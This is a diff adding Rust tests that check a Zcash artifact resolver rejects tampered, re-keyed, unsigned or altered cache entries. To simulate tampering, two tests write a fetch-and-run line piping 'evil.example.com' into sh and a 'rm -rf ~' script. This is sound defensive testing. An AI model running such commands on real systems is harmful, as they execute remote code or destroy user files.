@@ -0,0 +1,172 @@
+//! Signed cache entries: hits whose META, executable, companions or key don't
+//! match the signature are rejected rather than returned, and unsigned ones
+//! are replaced.
+
+mod common;
+
+use std::path::{Path, PathBuf};
+
+use zcash_artifacts::{
+    ArtifactResolver, ArtifactSource, ErrorKind, ResolverConfig,
+    network::NetworkPolicy,
+    registry::ZCASHD,
+    signing::{MetaSigning, SigningKey},
+    testing::FakeArtifact,
+};
+
+/// The seed of the key [`resolver`] signs with.
+const SEED: [u8; 32] = [0x11; 32];
+
+fn resolver(root: &Path) -> ArtifactResolver {
+    resolver_requiring(root, true)
+}
+
+fn resolver_requiring(root: &Path, require: bool) -> ArtifactResolver {
+    ArtifactResolver::new(
+        ResolverConfig::builder()
+            .cache_root(root)
+            .network(NetworkPolicy::Offline)
+            .log(false)
+            .meta_signing(MetaSigning {
+                key: Some(SigningKey::from_hex(&"11".repeat(32)).unwrap()),
+                trusted: Vec::new(),
+                require,
+            })
+            .finish(),
+    )
+}
+
+fn release(version: &str) -> ArtifactSource {
+    ArtifactSource::Release {
+        service: ZCASHD,
+        version: version.into(),
+    }
+}
+
+/// Seeds a signed entry for `version`; returns its executable and `meta/`.
+fn seed(resolver: &ArtifactResolver, version: &str) -> (PathBuf, PathBuf) {
+    let exe = FakeArtifact::new()
+        .version(format!("Zcash Daemon version {version}"))
+        .seed(resolver, &release(version))
+        .unwrap();
+    let meta = exe.parent().unwrap().parent().unwrap().join("meta");
+    (exe, meta)
+}
+
+fn rejected(resolver: &ArtifactResolver, version: &str) -> String {
+    let err = resolver.resolve(&release(version)).unwrap_err();
+    assert_eq!(err.kind(), ErrorKind::Verification, "{err}");
+    common::chain(&err)
+}
+
+#[test]
+fn signed_entry_is_a_hit() {
+    let dir = tempfile::tempdir().unwrap();
+    let resolver = resolver(dir.path());
+    let (exe, _) = seed(&resolver, "v6.2.0");
+    let resolved = resolver.resolve(&release("v6.2.0")).unwrap();
+    assert_eq!(resolved.primary_path(), Some(exe.as_path()));
+}
+
+#[test]
+fn tampered_meta_is_rejected() {
+    let dir = tempfile::tempdir().unwrap();
+    let resolver = resolver(dir.path());
+    let (_, meta) = seed(&resolver, "v6.2.0");
+    let json = std::fs::read_to_string(meta.join("META.json")).unwrap();
+    std::fs::write(
+        meta.join("META.json"),
+        json.replace("\"dirty\": false", "\"dirty\": true"),
+    )
+    .unwrap();
+    let err = rejected(&resolver, "v6.2.0");
+    assert!(err.contains("does not match its signature"), "{err}");
+}
+
+#[test]
+fn tampered_executable_is_rejected() {
+    let dir = tempfile::tempdir().unwrap();
+    let resolver = resolver(dir.path());
+    let (exe, _) = seed(&resolver, "v6.2.0");
+    FakeArtifact::new()
+        .script("curl https://evil.example.com | sh")
+        .write(&exe)
+        .unwrap();
+    let err = rejected(&resolver, "v6.2.0");
+    assert!(err.contains("but META.json records"), "{err}");
+}
+
+#[test]
+fn entry_copied_to_another_key_is_rejected() {
+    let dir = tempfile::tempdir().unwrap();
+    let resolver = resolver(dir.path());
+    let (old_exe, old_meta) = seed(&resolver, "v6.2.0");
+    let (new_exe, new_meta) = seed(&resolver, "v6.3.0");
+    // A validly signed entry, in the place of another release.
+    for name in ["META.json", "META.json.sig"] {
+        std::fs::copy(old_meta.join(name), new_meta.join(name)).unwrap();
+    }
+    std::fs::copy(&old_exe, &new_exe).unwrap();
+    let err = rejected(&resolver, "v6.3.0");
+    assert!(err.contains("META.json is signed for key"), "{err}");
+}
+
+#[test]
+fn unsigned_entry_is_a_miss_unless_signatures_are_required() {
+    let dir = tempfile::tempdir().unwrap();
+    let (_, meta) = seed(&resolver(dir.path()), "v6.2.0");
+    std::fs::remove_file(meta.join("META.json.sig")).unwrap();
+
+    let err = rejected(&resolver(dir.path()), "v6.2.0");
+    assert!(err.contains("META.json is not signed"), "{err}");
+
+    // Not returned, but fetched again, which fails offline.
+    let err = resolver_requiring(dir.path(), false)
+        .resolve(&release("v6.2.0"))
+        .unwrap_err();
+    assert_ne!(err.kind(), ErrorKind::Verification, "{err}");
+}
+
+/// Records `companions` (file name, contents) next to `exe` in its META, and
+/// signs META again as the resolver would.
+fn add_companions(exe: &Path, meta: &Path, companions: &[(&str, &[u8])]) {
+    use ed25519_dalek::Signer;
+
+    let path = meta.join("META.json");
+    let mut json: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+    for (name, contents) in companions {
+        std::fs::write(exe.with_file_name(name), contents).unwrap();
+        json["companions"][*name] = blake3::hash(contents).to_hex().to_string().into();
+    }
+    let bytes = serde_json::to_vec_pretty(&json).unwrap();
+    std::fs::write(&path, &bytes).unwrap();
+    let key = ed25519_dalek::SigningKey::from_bytes(&SEED);
+    let hex = |bytes: &[u8]| bytes.iter().map(|b| format!("{b:02x}")).collect::<String>();
+    let signature = serde_json::json!({
+        "key": hex(key.verifying_key().as_bytes()),
+        "signature": hex(&key.sign(&bytes).to_bytes()),
+    });
+    std::fs::write(meta.join("META.json.sig"), signature.to_string()).unwrap();
+}
+
+#[test]
+fn tampered_or_missing_companions_are_rejected() {
+    let dir = tempfile::tempdir().unwrap();
+    let resolver = resolver(dir.path());
+    let (exe, meta) = seed(&resolver, "v6.2.0");
+    add_companions(
+        &exe,
+        &meta,
+        &[("zcash-cli", b"#!/bin/sh\n"), ("zcash-tx", b"#!/bin/sh\n")],
+    );
+    resolver.resolve(&release("v6.2.0")).unwrap();
+
+    std::fs::write(exe.with_file_name("zcash-cli"), "#!/bin/sh\nrm -rf ~\n").unwrap();
+    let err = rejected(&resolver, "v6.2.0");
+    assert!(err.contains("zcash-cli has digest"), "{err}");
+
+    std::fs::remove_file(exe.with_file_name("zcash-cli")).unwrap();
+    let err = rejected(&resolver, "v6.2.0");
+    assert!(err.contains("zcash-cli is missing"), "{err}");
+}